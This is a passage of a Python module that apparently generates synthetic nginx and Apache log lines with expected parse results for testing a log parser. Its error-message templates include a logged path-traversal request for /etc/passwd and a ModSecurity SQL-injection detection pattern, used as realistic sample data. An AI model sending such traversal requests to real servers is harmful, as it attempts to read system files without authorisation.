            partial = _cut(ua_logged, rng, decode)
            line += f' "{ref_logged}" "{partial}'
            expected["user_agent"] = decode(partial)
            extra["truncated"] = "http_user_agent"
        elif kind == "unquoted_dash":
            both = rng.random() < 0.7
            line += " - -" if both else f' - "{ua_logged}"'
            expected["referrer"] = None
            if both:
                expected["user_agent"] = None
        else:
            line += f' "{ref_logged}" "{ua_logged}"'
        if preset == "main":
            if kind == "truncated":
                xff = _ipv4(rng) + ", " + _ipv4(rng)
                line += f' "{_cut(nginx_escape(xff), rng, decode)}'
                extra["truncated"] = "http_x_forwarded_for"
            else:
                xff = "-" if no_request else rng.choice(
                    ["-", "-", "-", _ipv4(rng), f"{_ipv4(rng)}, 10.0.{rng.randrange(256)}.{rng.randrange(1, 255)}"])
                line += f' "{nginx_escape(xff)}"'
        if preset == "timed_combined" and kind != "truncated":
            request_time = rng.choice([0.0, 0.001, 0.002]) if rng.random() < 0.3 else round(rng.expovariate(4), 3)
            # $upstream_response_time: one value per server tried (", "), groups per internal redirect (" : ").
            # After it a trailing field is only told apart when it cannot be a time (it is quoted).
            several = trailing is None or trailing.startswith('"')
            r = rng.random()
            if r < 0.35:
                upstream = "-"
            elif r < 0.96 or not several:
                upstream = f"{max(0.0, request_time - 0.001):.3f}"
            elif r < 0.985:
                upstream = f"{rng.random():.3f}, {request_time:.3f}"
                classes.append("multi_upstream")
            else:
                upstream = f"{rng.random():.3f}, - : {request_time:.3f}"
                classes.append("multi_upstream")
            line += f" {request_time:.3f} {upstream}"

    if trailing is not None:
        line += " " + trailing
        extra["trailing"] = trailing
    if extra:
        expected["extra"] = extra
    return Case(preset, line, expected, tuple(dict.fromkeys(classes)), eol="\r\n" if kind == "crlf" else "\n")


def _trailing(rng: random.Random, preset: str) -> str:
    """What a server whose format appends more writes after the configured part."""
    request_id = "".join(rng.choice("0123456789abcdef") for _ in range(32))
    rt = f"{rng.expovariate(5):.3f}"
    choices = {
        "combined": [f'"{_ipv4(rng)}"', '"-"', f"{rt} {rt}", f"{rt} -", request_id, f'"{_ipv4(rng)}, {_ipv4(rng)}"',
                     f"rt={rt} uct=0.000 uht={rt} urt={rt}", f'"www.example.com" {rt}'],
        "main": [f"{rt} {rt}", request_id, '"www.example.com"', f"rt={rt}", f"{rt} - {request_id}"],
        "timed_combined": [f'"{request_id}"', f"rid={request_id}", '"www.example.com"', '"-"', "TLSv1.3"],
        "apache_combined": [str(rng.randrange(200, 5_000_000)), f"{rng.randrange(200, 900)} {rng.randrange(200, 90000)}",
                            '"www.example.com"', f'"{_ipv4(rng)}"', f"{rng.randrange(0, 9)} {rng.randrange(100, 99999)}",
                            f"{_ipv4(rng)}, {_ipv4(rng)}", f"www.example.com:443 {rng.randrange(200, 5_000_000)} +"],
        "apache_common": [f'"{rng.choice(REFERRERS)}" "{apache_escape(rng.choice(USER_AGENTS))}"', '"-" "-"',
                          str(rng.randrange(200, 5_000_000)), f'"-" "{apache_escape(rng.choice(USER_AGENTS))}" 1234'],
    }
    return rng.choice(choices[preset])


# -- error logs ----------------------------------------------------------------------------------

_NGINX_REQUEST_ERRORS = [   # (level, message, upstream?)
    ("error", 'open() "/var/www/html{path}" failed (2: No such file or directory)', False),
    ("error", '"/var/www/html{dir}index.html" is not found (2: No such file or directory)', False),
    ("error", 'directory index of "/var/www/html{dir}" is forbidden', False),
    ("error", "access forbidden by rule", False),
    ("error", "connect() failed (111: Connection refused) while connecting to upstream", True),
    ("error", "upstream timed out (110: Connection timed out) while reading response header from upstream", True),
    ("error", "recv() failed (104: Connection reset by peer) while reading response header from upstream", True),
    ("error", "upstream prematurely closed connection while reading response header from upstream", True),
    ("crit", "connect() to unix:/run/php/php8.2-fpm.sock failed (2: No such file or directory) while connecting "
             "to upstream", True),
    ("error", 'limiting requests, excess: {excess} by zone "one"', False),
    ("warn", 'delaying request, excess: {excess}, by zone "api"', False),
    ("error", "client intended to send too large body: {size} bytes", False),
    ("warn", "an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/{n}/00/00000{n}00 "
             "while reading upstream", True),
    ("info", "client sent invalid request while reading client request line", False),
    ("error", 'user "admin" was not found in "/etc/nginx/.htpasswd"', False),
    ("error", 'FastCGI sent in stderr: "Primary script unknown" while reading response header from upstream', True),
    ("alert", "socket() failed (24: Too many open files) while connecting to upstream", True),
]
_NGINX_CONNECTION_ERRORS = [   # connection level: ", client: X, server: 0.0.0.0:443"
    ("info", "client closed connection while waiting for request"),
    ("info", "client timed out (110: Connection timed out) while waiting for request"),
    ("info", "SSL_do_handshake() failed (SSL: error:0A00010B:SSL routines::wrong version number) while SSL handshaking"),
    ("crit", "SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL handshaking"),
    ("info", "peer closed connection in SSL handshake while SSL handshaking"),
    ("info", "client sent plain HTTP request to HTTPS port while reading client request headers"),
]
_NGINX_STREAM_ERRORS = [
    ("error", "connect() failed (111: Connection refused) while connecting to upstream"),
    ("error", "upstream timed out (110: Connection timed out) while proxying connection"),
    ("info", "recv() failed (104: Connection reset by peer) while proxying and reading from upstream"),
]
_NGINX_PROCESS = [
    ("notice", "signal process started"), ("notice", 'using the "epoll" event method'), ("notice", "nginx/1.24.0"),
    ("notice", "built by gcc 12.2.0 (Debian 12.2.0-14)"), ("notice", "OS: Linux 6.1.0-18-amd64"),
    ("notice", "getrlimit(RLIMIT_NOFILE): 1048576:1048576"), ("notice", "start worker processes"),
    ("notice", "start worker process {n}"), ("notice", "signal 17 (SIGCHLD) received from {n}"),
    ("notice", "worker process {n} exited with code 0"), ("notice", "gracefully shutting down"),
    ("notice", "exiting"), ("notice", "exit"), ("notice", 'using inherited sockets from "6;7;"'),
    ("warn", 'conflicting server name "example.com" on 0.0.0.0:80, ignored'),
    ("emerg", "bind() to 0.0.0.0:80 failed (98: Address already in use)"),
    ("emerg", "still could not bind()"),
    ("warn", '"ssl_stapling" ignored, issuer certificate not found for certificate "/etc/ssl/certs/example.pem"'),
    ("alert", "worker process {n} exited on signal 9"),
    ("warn", "1024 worker_connections exceed open file resource limit: 1024"),
]
_SERVER_NAMES = ["example.com", "www.example.com", "api.example.com", "_", "shop.example.net", "localhost"]


def _nginx_error_case(rng: random.Random, clock: _Clock, pid_style: str) -> Case:
    when = clock.tick()
    pid = rng.choice([1234, 1235, 1236, 877, 31002])
    head = f"{when:%Y/%m/%d %H:%M:%S}"
    tid = 0 if pid_style == "old" else pid
    r = rng.random()
    classes: list = []
    client = None
    extra_lines: list[str] = []
    if r < 0.16:
        level, message = rng.choice(_NGINX_PROCESS)
        message = message.replace("{n}", str(rng.randrange(1000, 40000)))
        body = message
        classes.append("process")
    else:
        cid = rng.randrange(1, 5_000_000)
        client = _ipv6(rng) if rng.random() < 0.12 else _ipv4(rng)
        if ":" in client:
            classes.append("ipv6")
        if r < 0.20:
            # the stream module's tail: ", client: X, server: addr:port, upstream: "addr:port", bytes ..."
            level, message = rng.choice(_NGINX_STREAM_ERRORS)
            port = rng.choice([3306, 5432, 6379, 53])
            udp = "udp " if port == 53 else ""
            body = (f"*{cid} {message}, {udp}client: {client}, server: 0.0.0.0:{port}, upstream: "
                    f"\"10.0.0.{rng.randrange(2, 250)}:{port}\", bytes from/to client:{rng.randrange(0, 900)}/"
                    f"{rng.randrange(0, 9000)}, bytes from/to upstream:{rng.randrange(0, 9000)}/{rng.randrange(0, 900)}")
            classes.append("stream")
        elif r < 0.30:
            level, message = rng.choice(_NGINX_CONNECTION_ERRORS)
            body = f"*{cid} {message}, client: {client}, server: 0.0.0.0:{rng.choice([80, 443])}"
            classes.append("connection")
        else:
            req = _normal_request(rng, apache=False)
            while req.expected.get("url_path") in (None, "*"):   # a request for a file
                req = _normal_request(rng, apache=False)
            path = req.expected["url_path"]
            directory = path.rsplit("/", 1)[0] + "/"
            level, template, upstream = rng.choice(_NGINX_REQUEST_ERRORS)
            message = (template.replace("{path}", path).replace("{dir}", directory)
                       .replace("{excess}", f"{rng.random() * 20:.3f}").replace("{size}", str(rng.randrange(10**6, 10**9)))
                       .replace("{n}", str(rng.randrange(1, 9))))
            server, host = rng.choice(_SERVER_NAMES), rng.choice(_SERVER_NAMES[:3] + _SERVER_NAMES[4:])
            tail = f", client: {client}, server: {server}, request: \"{req.text}\""
            if upstream:
                up = rng.choice([f"http://127.0.0.1:{rng.choice([3000, 8000, 8080])}{path}",
                                 "fastcgi://unix:/run/php/php8.2-fpm.sock:", f"http://[::1]:8080{path}",
                                 f"uwsgi://10.0.0.{rng.randrange(2, 250)}:3031"])
                tail += f', upstream: "{up}"'
            tail += f', host: "{host}"'
            if rng.random() < 0.3:
                tail += f', referrer: "{rng.choice(REFERRERS)}"'
            classes.append("request")
            if rng.random() < 0.05:
                # FastCGI stderr keeps the PHP messages' newlines; the tail ends the last line.
                script = f"/var/www/html{path if path.endswith('.php') else '/index.php'}"
                level = "error"
                message = (f'FastCGI sent in stderr: "PHP message: PHP Warning:  Undefined variable $user in '
                           f"{script} on line {rng.randrange(2, 400)}")
                extra_lines = ["PHP message: PHP Stack trace:", f"PHP message: PHP   1. {{main}}() {script}:0"]
                extra_lines[-1] += '" while reading response header from upstream' + tail
                body = f"*{cid} {message}"
                classes.append("multiline")
            else:
                body = f"*{cid} {message}{tail}"
    text = "\n".join([f"{head} [{level}] {pid}#{tid}: {body}"] + extra_lines)
    expected = {"logged_at": _utc_us(when), "level": level,
                "client": normalize_client(client) if client else None, "message": message}
    if extra_lines:
        expected["lines"] = 1 + len(extra_lines)
    eol = "\r\n" if rng.random() < 0.01 else "\n"
    if eol == "\r\n":
        classes.append("crlf")
    return Case("nginx_error", text, expected, tuple(classes), eol=eol)


# (module, level, message, has client, APR status or "")
_APACHE_MESSAGES = [
    ("core", "info", "AH00128: File does not exist: /var/www/html{path}", True, ""),
    ("authz_core", "error", "AH01630: client denied by server configuration: /var/www/html{path}", True, ""),
    ("proxy_fcgi", "error", "AH01071: Got error 'Primary script unknown'", True, ""),
    ("autoindex", "error", "AH01276: Cannot serve directory /var/www/html{dir}: No matching DirectoryIndex "
                           "(index.html,index.php) found, and server-generated directory index forbidden by "
                           "Options directive", True, ""),
    ("core", "error", "AH00035: access to {path} denied (filesystem path '/var/www/html{path}') because search "
                      "permissions are missing on a component of the path", True, "(13)Permission denied"),
    ("proxy", "error", "AH00957: HTTP: attempt to connect to 127.0.0.1:8080 (localhost) failed", False,
     "(111)Connection refused"),
    ("proxy_http", "error", "AH01114: HTTP: failed to make connection to backend: localhost", True, ""),
    ("ssl", "warn", "AH01909: www.example.com:443:0 server certificate does NOT include an ID which matches the "
                    "server name", False, ""),
    ("mpm_event", "notice", "AH00489: Apache/2.4.58 (Ubuntu) OpenSSL/3.0.13 configured -- resuming normal "
                            "operations", False, ""),
    ("core", "notice", "AH00094: Command line: '/usr/sbin/apache2'", False, ""),
    ("mpm_prefork", "notice", "AH00169: caught SIGTERM, shutting down", False, ""),
    ("php", "error", "PHP Fatal error:  Uncaught Error: Call to undefined function mysql_connect() in "
                     "/var/www/html/db.php:12", True, ""),
    ("php7", "warn", "PHP Warning:  Undefined array key \"id\" in /var/www/html/item.php on line 8", True, ""),
    ("cgi", "error", "AH01215: Traceback (most recent call last):: /usr/lib/cgi-bin/report.py", True, ""),
    ("core", "error", "AH00126: Invalid URI in request GET /..%2f..%2fetc/passwd HTTP/1.1", True, ""),
    ("reqtimeout", "info", "AH01382: Request header read timeout", True, ""),
    ("ssl", "info", "AH01964: Connection to child 3 established (server www.example.com:443)", True, ""),
    ("rewrite", "trace3", "{ip} - - [www.example.com/sid#7f3a2c00a0b8][rid#7f3a2bf8e0a0/initial] applying pattern "
                          "'^/(.*)$' to uri '{path}'", True, ""),
    ("", "error", "[client {ip}] ModSecurity: Access denied with code 403 (phase 2). Pattern match \"(?i)union.*select\" "
                  "at ARGS:id. [file \"/etc/modsecurity/rules.conf\"] [line \"12\"] [id \"942100\"] "
                  "[hostname \"www.example.com\"] [uri \"/item.php\"] [unique_id \"Zf3kZ38AAQEAAB2vAAAAAI\"]", True, ""),
]
_APACHE22_MESSAGES = [
    ("error", "File does not exist: /var/www{path}", True, ""),
    ("error", "client denied by server configuration: /var/www{path}", True, ""),
    ("error", "script '/var/www/wp-login.php' not found or unable to stat", True, ""),
    ("error", "PHP Notice:  Undefined index: page in /var/www/index.php on line 7", True, ""),
    ("error", "Directory index forbidden by Options directive: /var/www{dir}", True, ""),
    ("error", "Invalid method in request \\x16\\x03\\x01", True, ""),
    ("error", "request failed: error reading the headers", True, ""),
    ("error", "Premature end of script headers: index.cgi", True, ""),
    ("error", "(2)No such file or directory: File does not exist: /var/www{path}", True, "(2)No such file or directory"),
    ("notice", "Apache/2.2.22 (Ubuntu) PHP/5.3.10-1ubuntu3.26 configured -- resuming normal operations", False, ""),
    ("notice", "caught SIGTERM, shutting down", False, ""),
    ("warn", "RSA server certificate CommonName (CN) `localhost' does NOT match server name!?", False, ""),
]
_RAW_STDERR = ["sh: 1: /usr/sbin/sendmail: not found",
               "PHP Warning:  Module 'mysqli' already loaded in Unknown on line 0",
               'AH00558: apache2: Could not reliably determine the server\'s fully qualified domain name, using '
               "127.0.1.1. Set the 'ServerName' directive globally to suppress this message",
               "Traceback (most recent call last):", '  File "/usr/lib/cgi-bin/report.py", line 12, in <module>',
               "KeyError: 'QUERY_STRING'", "Segmentation fault (core dumped)",
               "[notice] child pid 3321 exit signal Segmentation fault (11)"]
# Layouts whose time has microseconds (%{u}t, %{cu}t); the others write whole seconds.
_USEC_LAYOUTS = ("2.4_default", "2.4_prefork", "fmt_%{cu}t", "fmt_advanced", "fmt_request_once")
APACHE_LAYOUTS = {   # name -> weight
    "2.4_default": 40, "2.4_prefork": 10, "2.2_default": 15, "fmt_%t": 7, "fmt_%{c}t": 7, "fmt_%{cu}t": 8,
    "fmt_advanced": 8, "fmt_request_once": 5,
}


_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def _log_id(rng: random.Random, request: bool = True) -> str:
    """%L: mod_unique_id's UNIQUE_ID for requests (24 characters of A-Za-z0-9@-), else the core's
    id (8 bytes in base64 without the final '=': 11 characters of A-Za-z0-9+/)."""
    if request and rng.random() < 0.5:
        return "".join(rng.choice(_ALNUM + "@-") for _ in range(24))
    return "".join(rng.choice(_ALNUM + "+/") for _ in range(11))


def _apache_error_case(rng: random.Random, clock: _Clock) -> Case:
    layout = _weighted(rng, APACHE_LAYOUTS)
    when = clock.tick()
    classes = [layout]
    pid, tid = rng.choice([35708, 4211, 1187, 29911]), rng.choice([4328636416, 140245876782848, 139871234567936])
    path = _target(rng, [])
    path = path.split("?", 1)[0]
    directory = path.rsplit("/", 1)[0] + "/"
    ip = _ipv6(rng) if rng.random() < 0.1 else _ipv4(rng)
    port = rng.randrange(1024, 65536)
    referer = rng.choice(REFERRERS) if rng.random() < 0.25 else None

    def fill(text: str) -> str:
        return text.replace("{path}", path).replace("{dir}", directory).replace("{ip}", ip)

    level: str | None
    client: str | None = ip
    if layout == "2.2_default":
        level, message, has_client, status = rng.choice(_APACHE22_MESSAGES)
        message = fill(message)
        if status and message.startswith(status):
            message = message[len(status) + 2:]
        fields = [f"[{apache_ctime(when)}]", f"[{level}]"]
        if not has_client:
            client = None
        if has_client:
            fields.append(f"[client {ip}]")
        body = (f"{status}: " if status else "") + message
        line = " ".join(fields) + " " + body
        if has_client and referer:
            line += f", referer: {referer}"
    elif layout == "fmt_request_once":
        # ErrorLogFormat request "[%{uc}t] [R:%L] Request %k on C:%{c}L pid:%P tid:%T" (httpd docs, advanced example)
        level, client, status = None, None, ""
        if rng.random() < 0.5:
            message = f"Request {rng.randrange(0, 9)} on C:{_log_id(rng, request=False)} pid:{pid} tid:{tid}"
        else:
            message = f"UA:'{apache_escape(rng.choice(USER_AGENTS))}'"
        line = f"[{apache_ctime(when, usec=True, compact=True)}] [R:{_log_id(rng)}] {message}"
    else:
        module, level, message, has_client, status = rng.choice(_APACHE_MESSAGES)
        if (level.startswith("trace") and layout not in ("2.4_default", "2.4_prefork")
                or layout == "fmt_%t" and not has_client):   # that format's '[client %a]' needs an address
            module, level, message, has_client, status = _APACHE_MESSAGES[0]
        message = fill(message)
        if not has_client:
            client = None
        address = f"{ip}:{port}"
        usec = layout in _USEC_LAYOUTS
        compact = layout in ("fmt_%{c}t", "fmt_%{cu}t", "fmt_advanced")
        stamp = f"[{apache_ctime(when, usec=usec, compact=compact)}]"
        source_file = rng.choice(["mod_rewrite.c(477)", "core.c(4649)", "request.c(1213)", "mod_authz_core.c(820)"])
        fields = [stamp]
        if layout in ("2.4_default", "2.4_prefork"):
            fields.append(f"[{module}:{level}]")
            fields.append(f"[pid {pid}:tid {tid}]" if layout == "2.4_default" else f"[pid {pid}]")
            if level.startswith("trace") or level == "debug":
                fields.append(source_file + ":")
            if status:
                fields.append(status + ":")
            if client:
                fields.append(f"[client {address}]")
        elif layout == "fmt_%t":             # "[%t] [%l] [pid %P] %F: %E: [client %a] %M"
            fields += [f"[{level}]", f"[pid {pid}]", source_file + ":"]
            if status:
                fields.append(status + ":")
            if client:
                fields.append(f"[client {address}]")
        elif layout == "fmt_%{c}t":          # "[%{c}t] [%-m:%l] [pid %P:tid %T] [client\ %a] %M"
            fields += [f"[{module or '-'}:{level}]", f"[pid {pid}:tid {tid}]"]
            if client:
                fields.append(f"[client {address}]")
        elif layout == "fmt_%{cu}t":         # "[%{cu}t] [%-m:%l] [pid %P:tid %T] %E: [client\ %a] %M% ,\ referer\ %{Referer}i"
            fields += [f"[{module or '-'}:{level}]", f"[pid {pid}:tid {tid}]"]
            if status:
                fields.append(status + ":")
            if client:
                fields.append(f"[client {address}]")
        else:                                # "[%{uc}t] [%-m:%-l] [R:%L] [C:%{C}L] %7F: %E: %M"
            fields += [f"[{module or '-'}:{level}]"]
            if client:
                fields.append(f"[R:{_log_id(rng)}]")
            if status:
                fields.append(status + ":")
            client = None                    # this format logs no address
        line = " ".join(fields) + " " + message
        if referer and client and layout in ("2.4_default", "2.4_prefork"):
            line += f", referer: {referer}"
        elif referer and client and layout == "fmt_%{cu}t":
            line += f", referer {referer}"
        if status:
            classes.append("error_status")
    if client and ":" in client:
        classes.append("ipv6")
    if client is None:
        classes.append("no_client")
    extra_lines = []
    if rng.random() < 0.04:
        start = rng.randrange(len(_RAW_STDERR))
        extra_lines = _RAW_STDERR[start:start + rng.randrange(1, 4)]
        classes.append("multiline")
    logged = when if layout in _USEC_LAYOUTS else when.replace(microsecond=0)
    expected = {"logged_at": _utc_us(logged), "level": level,
                "client": normalize_client(client) if client else None, "message": message}
    if extra_lines:
        expected["lines"] = 1 + len(extra_lines)
    eol = "\r\n" if rng.random() < 0.01 else "\n"
    if eol == "\r\n":
        classes.append("crlf")
    return Case("apache_error", "\n".join([line] + extra_lines), expected, tuple(classes), eol=eol)


# -- public API ----------------------------------------------------------------------------------


def generate(preset: str, n: int, seed: int = 1) -> list[Case]:
    """`n` entries of `preset` (see PRESETS), reproducible from `seed`."""
    if preset not in PRESETS:
        raise ValueError(f"unknown preset {preset!r}: use one of {', '.join(PRESETS)}")
    rng = random.Random(f"{seed}:{preset}")
    clock = _Clock(rng, n, usec=preset == "apache_error")
    if preset == "nginx_error":
        style = rng.choice(["old", "new"])
        return [_nginx_error_case(rng, clock, style) for _ in range(n)]
    if preset == "apache_error":
        return [_apache_error_case(rng, clock) for _ in range(n)]
    specials = _specials_for(preset)
    return [_access_case(rng, preset, clock, specials) for _ in range(n)]


def _iso_us(text: str) -> int:
    """'2000-10-10T20:55:36.123Z' -> µs UTC."""
    t = datetime.fromisoformat(text.replace("Z", "+00:00"))
    if t.tzinfo is None:
        t = t.replace(tzinfo=timezone.utc)
    return _utc_us(t.astimezone(timezone.utc).replace(tzinfo=None))


def doc_samples(path: Path = DOC_SAMPLES) -> list[Case]:
    """The documentation samples (tests/data/doc_samples/samples.json) as cases."""
    cases = []
    for item in json.loads(path.read_text(encoding="utf-8")):
        expected = dict(item["expected"])
        for key in ("time", "logged_at"):
            if isinstance(expected.get(key), str):
                expected[key] = _iso_us(expected[key])
        cases.append(Case(item["preset"], item["line"], expected, tuple(item.get("classes", ["doc"])),
                          eol=item.get("eol", "\n"), source=item.get("source", "")))
    return cases


def by_preset(cases: list[Case]) -> dict[str, list[Case]]:
    out: dict[str, list[Case]] = {}
    for case in cases:
        out.setdefault(case.preset, []).append(case)
    return out
